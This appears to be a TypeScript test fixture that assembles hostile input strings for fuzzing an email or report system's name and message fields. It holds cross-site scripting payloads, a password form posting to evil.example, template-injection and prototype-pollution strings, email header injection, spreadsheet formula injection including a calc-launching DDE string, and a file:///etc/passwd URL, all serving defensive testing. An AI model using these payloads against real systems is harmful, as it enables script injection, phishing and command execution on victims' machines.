import { hostileNames } from '../report/fixtures.ts';

/** What anybody may write into a name, a reason or a message, by what it is meant to break. */

const waysOut = ['', '"', "'>", '-->', ']]>', '</td></tr></table>', '</title>', '</style>', '</a>', '&quot;&gt;'];
const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<b>',
  '<a href="javascript:alert(1)">click</a>',
  '<!--',
  '<![endif]--><!--[if mso]>',
  '<style>*{display:none}</style>',
  '<plaintext>',
  '<form action=//evil.example><input name=password>',
];

const templates = [
  '{{subject}}',
  '{{{subject}}}',
  '{{&subject}}',
  '{{#if x}}',
  '{{/each}}',
  '{{> partial}}',
  '{{!-- comment --}}',
  '{{@root.brand.accent}}',
  '{{lookup this "constructor"}}',
  '\\{{x}}',
  '}}',
  '{{',
  '$' + '{process.exit()}',
  '<%= 1 %>',
  '#{1}',
  '[[1]]',
];

const properties = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'null',
  'NaN',
];

const breaks = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '\0', '%0d%0a', '\\r\\n'];
const headers = ['Bcc: eve@evil.example', '\r\n<html>body', '.', 'Content-Type: text/html; charset=x'];

const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '"=',
  "'=",
  ';=',
  '＝',
  '＋',
  '－',
  '＠',
  '\uFEFF=',
  '\u200B=',
];
const formulas = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","a")'];

const invisible = [
  0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d,
  0x202e, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x2800, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9,
  0xfffe, 0xffff, 0xe0001, 0xe0041, 0x1d173, 0xd800, 0xdfff,
].map((code) => String.fromCodePoint(code));

const controls = Array.from({ length: 0xa0 }, (_, code) => code)
  .filter((code) => code < 0x20 || code >= 0x7f)
  .map((code) => String.fromCodePoint(code));

const long = ['x', '&', '<', '"', "'", '=', 'é', '漢', '👩‍👩‍👧', '\u0301', '\u202E', ' ', '\n', '{{', 'a '].map(
  (part) => part.repeat(10_000 / part.length),
);

const addresses = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://bank.example@evil.example/',
  'https://xn--80ak6aa92e.example',
  'file:///etc/passwd',
  'cid:logo@campaign-pulse',
  '//evil.example',
];

export const hostileStrings: readonly string[] = [
  ...new Set([
    ...hostileNames,
    ...waysOut.flatMap((out) => markup.map((tag) => `${out}${tag}`)),
    ...templates,
    ...properties,
    ...breaks.flatMap((line) => headers.map((header) => `Name${line}${header}`)),
    ...formulaStarts.flatMap((start) => formulas.map((formula) => `${start}${formula}`)),
    ...invisible.flatMap((sign) => [sign, `a${sign}b`]),
    ...controls.map((control) => `a${control}b`),
    ...long,
    ...addresses,
  ]),
];
